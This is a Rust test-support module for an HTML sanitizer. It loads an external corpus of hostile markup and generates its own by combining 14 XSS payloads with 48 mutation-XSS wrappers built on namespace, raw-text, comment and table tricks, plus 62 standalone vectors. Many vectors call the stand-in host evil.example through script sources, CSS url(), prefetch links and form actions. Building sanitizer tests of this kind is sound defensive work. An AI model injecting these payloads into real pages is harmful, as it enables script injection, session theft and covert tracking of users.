//! Hostile markup: of others, fetched by `deploy/corpora.sh`, and our own, made of ways in and things to do.

use serde_json::Value;

const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/target/corpora/html/vectors.jsonl");

pub(crate) struct Vector {
    pub(crate) id: String,
    pub(crate) html: String,
}

/// Those of others; none where `deploy/corpora.sh` has not been.
pub(crate) fn of_others() -> Vec<Vector> {
    let Ok(lines) = std::fs::read_to_string(CORPUS) else { return Vec::new() };
    let vectors = lines.lines().map(|line| {
        let vector: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        Vector { id: vector["id"].as_str().unwrap().to_owned(), html: vector["html"].as_str().unwrap().to_owned() }
    });
    vectors.collect()
}

/// Every way in with every thing to do.
pub(crate) fn own() -> Vec<Vector> {
    let mut all = Vec::new();
    for (w, way) in WAYS.iter().enumerate() {
        for (d, deed) in DEEDS.iter().enumerate() {
            all.push(Vector { id: format!("own-{w}-{d}"), html: way.replace('§', deed) });
        }
    }
    for (n, html) in ALONE.iter().enumerate() {
        all.push(Vector { id: format!("own-alone-{n}"), html: (*html).to_owned() });
    }
    for (n, (name, charset)) in
        [("utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), ("overlong", "\u{c0}\u{bc}script>")]
            .into_iter()
            .enumerate()
    {
        all.push(Vector { id: format!("own-charset-{n}-{name}"), html: format!("<meta charset={name}>{charset}") });
    }
    all
}

/// Things to do.
const DEEDS: [&str; 14] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1) tabindex=1>x</a>",
    "<img src=http://evil.example/p.png>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<style>@import '//evil.example/i.css';*{background:url(//evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/r'>",
    "<form action=//evil.example/f><input autofocus onfocus=alert(1)></form>",
    "<base href=//evil.example/><img src=b.png>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video autoplay src=//evil.example/v onerror=alert(1)><source src=x onerror=alert(1)></video>",
];

/// Ways in: namespaces, raw text, comments, tables, broken quotes; `§` is where the deed goes.
const WAYS: [&str; 48] = [
    "§",
    "<svg>§</svg>",
    "<math>§</math>",
    "<svg><style>§</style></svg>",
    "<math><style>§</style></math>",
    "<svg></p><style><a id=\"</style>§\">",
    "<math></p><style><!--</style>§--></style></math>",
    "<svg><foreignObject><div>§</div></foreignObject></svg>",
    "<svg><desc>§</desc><title>§</title></svg>",
    "<math><mtext>§</mtext><mi>§</mi></math>",
    "<math><annotation-xml encoding=\"text/html\">§</annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;§\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>§\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>§\"></style></h1>",
    "<svg><![CDATA[</svg>§]]>",
    "<svg><![CDATA[><a title=\"]]>§\">",
    "<math><![CDATA[§]]></math>",
    "<noscript><p title=\"</noscript>§\"></noscript>",
    "<noscript><noscript></noscript>§</noscript>",
    "<style><noscript></style>§</noscript>",
    "<title>&lt;/title&gt;§</title>§",
    "<title><a title=\"</title>§\"></title>",
    "<textarea>§</textarea><textarea></textarea>§",
    "<textarea><a title=\"</textarea>§\"></textarea>",
    "<xmp>§</xmp><xmp><a title=\"</xmp>§\">",
    "<iframe>§</iframe><iframe><a title=\"</iframe>§\">",
    "<noembed><a title=\"</noembed>§\"></noembed>",
    "<noframes>§</noframes>",
    "<template>§<template>§</template></template>",
    "<select><template>§</template><option>§</option></select>",
    "<select><style><!--</style>§--></select>",
    "<plaintext>§",
    "<!--§--><!--><a title=\"-->§\">",
    "<!-->§--> <!--->§ <!--x--!>§",
    "<!-- <!-- --> § -->",
    "<![if !mso]>§<![endif]><!--[if mso]>§<![endif]-->",
    "<?xml version=\"1.0\"?>§<?x §?>",
    "<!DOCTYPE html [<!ENTITY x \"§\">]>&x;",
    "<table>§<tr>§<td>§</table>",
    "<table><tbody><colgroup>§</colgroup><caption>§",
    "<a href=\"x\"y=\"§\">§</a>",
    "<p title='\">§'>`§",
    "<div style=\"color:red;}</style>§\">x</div>",
    "<img alt=\"`><p title='§",
    "<a title=\"&quot;&gt;§\">x</a>",
    "<font color='\"§'>x</font><td bgcolor=\">§\">",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>§",
    "<b><table><b><td><a><table><a>§",
];

/// Tricks with one place each.
const ALONE: [&str; 62] = [
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\" ping=\"//evil.example/ping\" download>x</a>",
    "<a href=\"https://a.example\" target=_top onclick=alert(1)>x</a>",
    "<img src=x: onerror=alert(1)//",
    "<img srcset='//evil.example/1 1x, //evil.example/2 2x'>",
    "<img src='cid:x' srcset='//evil.example/3 1x' sizes=1px>",
    "<picture><source srcset=//evil.example/4><img src=cid:x></picture>",
    "<img src='/api/v1/counts'>",
    "<img src='../../counts'>",
    "<img src='/api/v1/attachments/../counts'>",
    "<img src='cid:../../counts'>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<img dynsrc=//evil.example/5 lowsrc=//evil.example/6>",
    "<input type=image src=//evil.example/7 formaction=javascript:alert(1)>",
    "<button form=f formaction=//evil.example/8>x</button><form id=f></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<body background=//evil.example/9 onload=alert(1) onpageshow=alert(1)>x",
    "<table background=//evil.example/10><td background='javascript:alert(1)'>x",
    "<div style='background:url(\"//evil.example/11\")'>x</div>",
    "<div style='background:\\75\\72\\6c(//evil.example/12)'>x</div>",
    "<div style='background:u/**/rl(//evil.example/13)'>x</div>",
    "<div style=\"background-image:image-set('//evil.example/14' 1x)\">x</div>",
    "<div style='list-style:url(//evil.example/15);display:list-item'>x</div>",
    "<div style='cursor:url(//evil.example/16),auto'>x</div>",
    "<div style='content:url(//evil.example/17)'>x</div>",
    "<div style='border-image:url(//evil.example/18) 1'>x</div>",
    "<div style='filter:url(//evil.example/19#x);mask:url(//evil.example/20)'>x</div>",
    "<div style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<p style='font-family:\"x\";src:url(//evil.example/21)'>x</p>",
    "<p style='animation:x 1s' onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>",
    "<p style='color:red;&#125;*&#123;background:url(//evil.example/22)'>x</p>",
    "<style>@font-face{font-family:x;src:url(//evil.example/23)}p{font-family:x}</style><p>x",
    "<style>@import//evil.example/24;</style>",
    "<link rel=prefetch href=//evil.example/25><link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=//evil.example><link rel=modulepreload href=//evil.example/26>",
    "<script src=//evil.example/27></script><script type=module>import '//evil.example/28'</script>",
    "<script>location='//evil.example/29'</script><script>open('//evil.example/30')</script>",
    "<meta http-equiv=\"Set-Cookie\" content=\"a=b\"><meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<frameset onload=alert(1)><frame src=//evil.example/31></frameset>",
    "<applet code=x archive=//evil.example/32></applet>",
    "<audio src=//evil.example/33 autoplay></audio><video poster=//evil.example/34></video>",
    "<track src=//evil.example/35><bgsound src=//evil.example/36>",
    "<marquee onstart=alert(1)>x</marquee><marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<svg><use href='//evil.example/37#x'/><image href='//evil.example/38'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onload to=alert(1) /></svg>",
    "<svg><script href=//evil.example/39 /><script>alert&#40;1)</script></svg>",
    "<math href=javascript:alert(1)>x</math><math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml><span datasrc=#x datafld=c>",
    "<dialog open><form method=dialog><button autofocus onfocus=alert(1)>x</button></form></dialog>",
    "<p id=x onscrollsnapchange=alert(1) popover=auto>x</p><button popovertarget=x>x</button>",
    "<custom-element onbeforematch=alert(1) hidden=until-found>x</custom-element>",
    "<p contenteditable autofocus onfocus=alert(1) oncontentvisibilityautostatechange=alert(1)>x</p>",
    "<a name=body href=https://a.example>x</a><img name=cookie src=cid:x><form name=forms>x</form>",
    "<input type=hidden accesskey=x onclick=alert(1)><portal src=//evil.example/40></portal><fencedframe src=//evil.example/41>",
];
